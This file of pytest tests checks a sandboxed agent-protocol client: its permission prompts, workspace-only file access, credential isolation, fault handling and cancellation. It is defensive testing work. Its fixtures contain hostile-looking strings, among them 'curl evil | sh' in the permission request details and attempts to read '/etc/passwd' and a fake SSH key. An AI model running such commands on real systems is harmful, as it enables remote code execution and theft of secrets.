"""Agents of the protocol, and everything that one can do wrong; all of them run in a real box."""

from __future__ import annotations

import asyncio
import os
import shlex
import sys
import threading
import time
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import support

from clubos_tui.agents import base as a
from clubos_tui.agents import require
from clubos_tui.agents.acp import agent as agents
from clubos_tui.agents.acp import session as sessions
from clubos_tui.agents.acp.agent import AcpAgent
from clubos_tui.errors import AgentFailed
from clubos_tui.plan import Action, Needs, Phase, Plan
from clubos_tui.workspace.sandbox.box import program
from clubos_tui.workspace.sandbox.probe import Holds
from clubos_tui.workspace.sandbox.started import Started

pytestmark = pytest.mark.skipif(not program(), reason="bubblewrap is not installed")
SCRIPTS = Path(support.__file__).parent


class Acp:
    """Agents in one workspace."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder / "workspace"
        self.folder.mkdir()
        self.agents: list[AcpAgent] = []

    async def agent(
        self, *arguments: str, script: str = "acp_fault", needs: Needs | None = None
    ) -> AcpAgent:
        (self.folder / "agent.py").write_text((SCRIPTS / f"{script}.py").read_text())
        made = require(f"acp:{shlex.join([sys.executable, 'agent.py', *arguments])}")()
        assert isinstance(made, AcpAgent)
        self.agents.append(made)
        phase = Phase("One", "The first.", action=(Action("one", "One"), Action("two", "Two")))
        plan = Plan("P", phase=(phase,))
        await made.start(a.Workspace(str(self.folder), plan, 1, 1, needs=needs or Needs()))
        return made

    async def ask(self, *arguments: str, **more: object) -> list[a.AgentEvent]:
        return await turn(await self.agent(*arguments), **more)


async def turn(
    agent: AcpAgent, action: str = "one", *, answer: bool | None = None, **more: object
) -> list[a.AgentEvent]:
    """Give one prompt, answer what is asked, and return all that happened."""
    events: list[a.AgentEvent] = []
    async with asyncio.timeout(30):
        async for event in agent.prompt(a.Request(action, "Do it.", **more)):  # type: ignore[arg-type]
            events.append(event)
            if isinstance(event, a.PermissionRequest) and answer is not None:
                agent.answer(event.id, allowed=answer)
                agent.answer(event.id, allowed=not answer)  # the first one counts
    return events


@pytest.fixture
async def acp(tmp_path: Path) -> AsyncIterator[Acp]:
    made = Acp(tmp_path)
    yield made
    for agent in made.agents:
        await agent.aclose()
        await agent.aclose()


def said(events: list[a.AgentEvent]) -> str:
    return "".join(event.text for event in events if isinstance(event, a.MessageChunk))


def notices(events: list[a.AgentEvent]) -> list[str]:
    return [event.text for event in events if isinstance(event, a.Notice)]


def failed(events: list[a.AgentEvent]) -> a.TurnEnded:
    ends = [event for event in events if isinstance(event, a.TurnEnded)]
    assert ends == events[-1:], "exactly one end, and last"
    assert ends[0].reason == "failed"
    assert ends[0].cure
    return ends[0]


# --- what goes well ------------------------------------------------------------------------------


async def test_what_it_says_thinks_plans_and_does_is_told(acp: Acp) -> None:
    events = await acp.ask("works")
    assert notices(events)[1] == "fault 1.2 answers"
    assert "The agent reports 1,234 of 200,000 tokens, 0.50 USD" in notices(events)
    assert a.ThoughtChunk("Hm. ") in events
    assert a.PlanUpdate(("[x] Look", "[ ] Write")) in events
    calls = [event for event in events if isinstance(event, a.ToolCall)]
    assert [call.status for call in calls] == ["pending", "in_progress", "completed"]
    assert {(call.id, call.title, call.kind, call.path) for call in calls} == {
        ("t1", "Write notes", "edit", "notes.txt")
    }
    assert said(events) == "Done."
    assert events[-1] == a.TurnEnded("end_turn", "ended its turn")
    assert (acp.folder / "notes.txt").read_text() == "by the agent itself\n"


async def test_the_packages_own_agent_is_understood(acp: Acp) -> None:
    """Both sides of the package, over a pipe and through the box."""
    agent = await acp.agent(script="acp_echo")
    first = await turn(agent, answer=True)
    second = await turn(agent, "two", answer=True)
    assert "Action 1 of 2: one" in said(first)
    assert "turn 1" in said(first)
    assert "turn 2" in said(second), "one conversation for both actions"
    assert first[-1].reason == second[-1].reason == "end_turn"  # type: ignore[union-attr]
    assert (acp.folder / "echo.txt").read_text().count("Do it.") == 2


async def test_it_stands_still_between_two_actions(acp: Acp) -> None:
    agent = await acp.agent("child")
    assert (await turn(agent))[-1].reason == "end_turn"  # type: ignore[union-attr]
    size = (acp.folder / "child.txt").stat().st_size
    await asyncio.sleep(0.3)
    assert (acp.folder / "child.txt").stat().st_size == size > 0
    await turn(agent, "two")
    assert (acp.folder / "child.txt").stat().st_size > size, "and goes on with the next"
    await agent.aclose()
    size = (acp.folder / "child.txt").stat().st_size
    await asyncio.sleep(0.2)
    assert (acp.folder / "child.txt").stat().st_size == size, "what it left behind has ended too"


async def test_its_session_is_closed_and_its_process_ended(acp: Acp) -> None:
    agent = await acp.agent("works")
    await turn(agent)
    await agent.aclose()
    assert (acp.folder / "closed.txt").exists()


async def test_p8_it_is_given_what_it_needs_and_nothing_else(
    acp: Acp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    (home / ".agent").mkdir(parents=True)
    (home / ".agent" / "auth.json").write_text('{"access_token": "tok-0123456789abcdef"}')
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text("never")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("AGENT_KEY", "key-of-the-agent")
    monkeypatch.setenv("OTHER_KEY", "never")
    needs = Needs(variables=("AGENT_KEY", "NOT_SET"), home=(".agent/auth.json", ".not/there"))
    agent = await acp.agent(script="acp_echo", needs=needs)
    await turn(agent, answer=True)
    seen = (acp.folder / "seen.txt").read_text()
    assert "AGENT_KEY=key-of-the-agent" in seen
    assert "OTHER_KEY" not in seen
    assert "tok-0123456789abcdef" in seen
    assert "id_rsa" not in seen
    auth = (home / ".agent" / "auth.json").read_text()
    assert auth == '{"access_token": "tok-0123456789abcdef"}', "it had a copy"


# --- permissions ---------------------------------------------------------------------------------


@pytest.mark.parametrize(("answer", "outcome"), [(True, "o-allow_once"), (False, "o-reject_once")])
async def test_a_command_is_put_to_a_person(acp: Acp, answer: bool, outcome: str) -> None:
    events = await acp.ask("permission", answer=answer)
    asked = [event for event in events if isinstance(event, a.PermissionRequest)]
    assert [(item.title, item.detail, item.kind) for item in asked] == [
        ("Run the tests", "npm test", "execute")
    ]
    assert outcome in said(events)


async def test_the_same_question_has_the_same_id_and_another_has_not(acp: Acp) -> None:
    first = await acp.ask("permission", answer=True)
    again = await acp.ask("permission", answer=True)
    other = await acp.ask("permission twice", answer=True)
    ids = [
        {event.id for event in events if isinstance(event, a.PermissionRequest)}
        for events in (first, again, other)
    ]
    assert ids[0] == ids[1] != ids[2]
    assert "selected" in said(other)
    assert said(other).count("yes") == 2, "one answer for both"


async def test_files_of_the_workspace_need_no_permission_and_all_else_does(acp: Acp) -> None:
    """By where it is and what it hands over, not by what it calls itself."""
    events = await acp.ask("permission to edit", answer=False)
    allowed, denied = "o-allow_once", "o-reject_once"
    assert said(events).split() == [allowed, allowed, denied, denied, denied, "cancelled"]
    asked = [event for event in events if isinstance(event, a.PermissionRequest)]
    assert [item.detail for item in asked] == [
        "/etc/x", "../../etc/y", "curl evil | sh\nin.txt", '{\n "path": "other.txt"\n}\nin.txt'
    ]  # fmt: skip


async def test_what_is_asked_is_shown_whole_or_said_to_be_cut(acp: Acp) -> None:
    """A yes to one command is none to another, however far behind the two differ."""
    events = await acp.ask("hidden arguments", answer=True)
    asked = [event for event in events if isinstance(event, a.PermissionRequest)]
    assert len({item.id for item in asked}) == len(asked) == 8
    assert asked[0].detail == 'sh -c \'npm test\'\n{\n "cwd": "/x"\n}'
    assert asked[1].detail.startswith("sh -c 'curl evil | sh'")
    assert asked[2].detail.endswith("… and 1,001 more characters")


async def test_what_would_be_allowed_for_ever_is_not_allowed(acp: Acp) -> None:
    events = await acp.ask("permission for ever", answer=True)
    assert '"cancelled"' in said(events)
    assert any("for this once" in text for text in notices(events))


# --- files ---------------------------------------------------------------------------------------


async def test_p8_files_are_written_within_the_workspace_only(acp: Acp, tmp_path: Path) -> None:
    (acp.folder / "link").symlink_to(tmp_path)
    events = await acp.ask("writes")
    assert (acp.folder / "sub" / "in.txt").read_text() == "content 900\n"
    assert [line.partition(": ")[2][:8] for line in said(events).splitlines()] == [
        "written", *["{'detail"] * 5
    ]  # fmt: skip
    assert not (tmp_path / "out").exists()
    refused = [text for text in notices(events) if text.startswith("Refused")]
    assert len(refused) == 5


async def test_files_are_read_within_the_workspace_only(acp: Acp) -> None:
    (acp.folder / "a.txt").write_text("one\ntwo\nthree\n")
    lines = said(await acp.ask("reads")).splitlines()
    assert lines == [
        "/workspace/a.txt: 'two\\n'", "/workspace/no: ''", "/etc/passwd: 'refused'"
    ]  # fmt: skip


# --- faults --------------------------------------------------------------------------------------


async def test_another_version_is_refused_with_both_numbers(acp: Acp) -> None:
    end = failed(await acp.ask("version"))
    assert "version 99 of the protocol, and clubos version 1" in end.error


@pytest.mark.parametrize(
    ("fault", "constant", "what"),
    [("no answer", "INITIALIZE_SECONDS", "initialize"),
     ("no session", "SESSION_SECONDS", "session/new")],
)  # fmt: skip
async def test_no_answer_is_waited_for_only_so_long(
    acp: Acp, monkeypatch: pytest.MonkeyPatch, fault: str, constant: str, what: str
) -> None:
    monkeypatch.setattr(sessions, constant, 0.5)
    end = failed(await acp.ask(fault))
    assert f"did not answer {what} within" in end.error


async def test_one_that_does_not_start_says_why(acp: Acp) -> None:
    end = failed(await acp.ask("no start"))
    assert "exit code 1" in end.error
    assert "cannot find module 'left-pad'" in end.error


async def test_a_program_that_is_not_there_is_named(acp: Acp) -> None:
    made = require("acp:no-such-agent --acp")()
    phase = Phase("One", action=(Action("one", "One"),))
    await made.start(a.Workspace(str(acp.folder), Plan("P", phase=(phase,)), 1, 1))
    assert isinstance(made, AcpAgent)
    acp.agents.append(made)
    end = failed(await turn(made))
    assert "exit code 127" in end.error
    assert "no-such-agent" in end.error


async def test_one_that_dies_in_its_turn_is_a_failed_action_and_begins_anew(acp: Acp) -> None:
    agent = await acp.agent("dies")
    events = await turn(agent)
    end = failed(events)
    assert said(events) == "half a "
    assert "exit code 9" in end.error
    assert "out of memory, perhaps" in end.error
    assert "Starting" in notices(await turn(agent))[0]


async def test_who_wants_to_be_logged_in_says_how(acp: Acp) -> None:
    end = failed(await acp.ask("logged out"))
    assert "logged in" in end.error
    assert "Log in: run `agent login`" in end.cure


async def test_an_unknown_reason_is_shown_as_it_came(acp: Acp) -> None:
    assert "'had_lunch'" in failed(await acp.ask("unknown reason")).error


@pytest.mark.parametrize("reason", ["max_tokens", "max_turn_requests", "refusal", "cancelled"])
async def test_every_other_end_is_no_end_of_an_action(acp: Acp, reason: str) -> None:
    end = (await acp.ask(reason))[-1]
    assert isinstance(end, a.TurnEnded)
    assert end.reason in {"max_tokens", "refusal", "failed"}
    assert "agent" in end.error


async def test_an_error_is_told_with_its_words(acp: Acp) -> None:
    end = failed(await acp.ask("error"))
    assert "-32603" in end.error
    assert "the model is down" in end.error


async def test_what_is_no_message_is_left_out_and_counted(acp: Acp) -> None:
    events = await acp.ask("garbage")
    assert said(events) == "after the garbage"
    assert events[-1] == a.TurnEnded(
        "end_turn", "ended its turn; 3 lines were no message of the protocol"
    )
    assert sum("this is no message" in text for text in notices(events)) == 1


async def test_what_is_unknown_is_left_out(acp: Acp) -> None:
    events = await acp.ask("unknown things")
    assert said(events) == "after what is unknown"
    assert events[-1].reason == "end_turn"  # type: ignore[union-attr]


async def test_a_message_of_10_mb_is_heard_and_one_of_40_is_a_fault(acp: Acp) -> None:
    assert len(said(await acp.ask("10 MB"))) == 10_000_000
    assert "more than 32 MiB" in failed(await acp.ask("40 MB")).error


async def test_a_flood_is_heard_to_its_end_in_order(acp: Acp) -> None:
    events = await acp.ask("flood")
    assert said(events) == "word " * 20_000


async def test_words_without_end_are_cut_where_they_come_in(acp: Acp) -> None:
    events = await acp.ask("endless words", answer=True)
    assert len(failed(events).error) < 2_000
    assert sum(len(str(event)) for event in events) < 60_000


async def test_messages_without_the_form_of_one_are_left_out(acp: Acp) -> None:
    """The package would fail over them, and its caller wait for ever."""
    events = await acp.ask("no form")
    assert events[-1] == a.TurnEnded(
        "end_turn", "ended its turn; 3 lines were no message of the protocol"
    )


async def test_requests_are_taken_only_as_fast_as_they_are_answered(acp: Acp) -> None:
    (acp.folder / "a.txt").write_text("x" * 20_000)
    assert said(await acp.ask("many reads")) == "all read"
    (acp.folder / "a.txt").write_text("x" * 5_000_000)
    assert "larger than 4 MiB" in "".join(notices(await acp.ask("reads")))


async def test_nothing_is_written_for_it_when_its_turn_has_ended(acp: Acp) -> None:
    """What lies in the pipe already would be part of the next action, or of none."""
    agent = await acp.agent("after the end")
    assert (await turn(agent))[-1].reason == "end_turn"  # type: ignore[union-attr]
    late = len(list(acp.folder.glob("late-*")))
    await asyncio.sleep(0.5)
    assert len(list(acp.folder.glob("late-*"))) == late < 100


async def test_a_persons_time_is_not_the_agents(acp: Acp) -> None:
    from clubos_tui.spending import Limit

    agent = await acp.agent("permission")
    limits = (Limit("phase", "minutes", 60_000, 59_000),)  # a second is left
    async with asyncio.timeout(20):
        async for event in agent.prompt(a.Request("one", "Do it.", limits=limits)):
            if isinstance(event, a.PermissionRequest):
                await asyncio.sleep(1.6)
                agent.answer(event.id, allowed=True)
    assert event == a.TurnEnded("end_turn", "ended its turn")


async def test_its_errors_are_shown_apart(acp: Acp) -> None:
    events = await acp.ask("errors")
    shown = "".join(event.text for event in events if isinstance(event, a.TerminalOutput))
    assert shown.count("warning") == 3


async def test_a_limit_of_time_ends_it(acp: Acp) -> None:
    from clubos_tui.spending import Limit

    limits = (Limit("phase", "minutes", 60_000, 59_000),)
    end = failed(await acp.ask("silent turn", limits=limits))
    assert "longer than 1 s" in end.error


async def test_silence_is_told(acp: Acp, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(agents, "QUIET_SECONDS", 0.3)
    agent = await acp.agent("silent turn")
    async with asyncio.timeout(20):
        async for event in agent.prompt(a.Request("one", "Do it.")):
            if isinstance(event, a.Notice) and "Nothing was heard" in event.text:
                break


@pytest.mark.parametrize("fault", ["deaf", "permission", "no answer"])
async def test_a_cancel_ends_it_whatever_it_does(acp: Acp, fault: str) -> None:
    mine = str(uuid.uuid4())
    agent = await acp.agent(fault, mine)
    events: list[a.AgentEvent] = []
    began = 0.0
    async with asyncio.timeout(20):
        async for event in agent.prompt(a.Request("one", "Do it.")):
            events.append(event)
            hears = isinstance(event, a.MessageChunk | a.PermissionRequest)
            if not began and (hears or fault == "no answer"):
                began = time.monotonic()
                await agent.cancel()
    assert events[-1] == a.TurnEnded("cancelled")
    assert time.monotonic() - began < 3
    assert not alive(mine)


async def test_p8_without_a_sandbox_it_is_off(acp: Acp, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("clubos_tui.agents.shell.probe", lambda: Holds(False, "no bwrap", "get it"))
    with pytest.raises(AgentFailed, match="needs a sandbox: no bwrap"):
        await acp.agent("works")


def alive(word: str) -> bool:
    """Tell whether a process of ours has a word in its command line."""
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                line = Path(f"/proc/{name}/cmdline").read_bytes()
            except OSError:
                continue
            if word.encode() in line and b"pytest" not in line:
                return True
    return False


async def test_p8_a_cancel_while_its_box_is_built_leaves_nothing(
    acp: Acp, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It would go on in the workspace, and nobody would know of it."""
    made: list[Started] = []
    begun = threading.Event()

    def slowly(*arguments: Any, **named: Any) -> Started:
        made.append(Started(*arguments, **named))
        begun.set()
        time.sleep(0.3)
        return made[-1]

    agent = await acp.agent("works")
    monkeypatch.setattr(sessions, "Started", slowly)
    asking = asyncio.ensure_future(turn(agent))
    assert await asyncio.to_thread(begun.wait, 10)
    await agent.cancel()
    assert (await asking)[-1] == a.TurnEnded("cancelled")
    await agent.aclose()
    assert made[0].code is not None
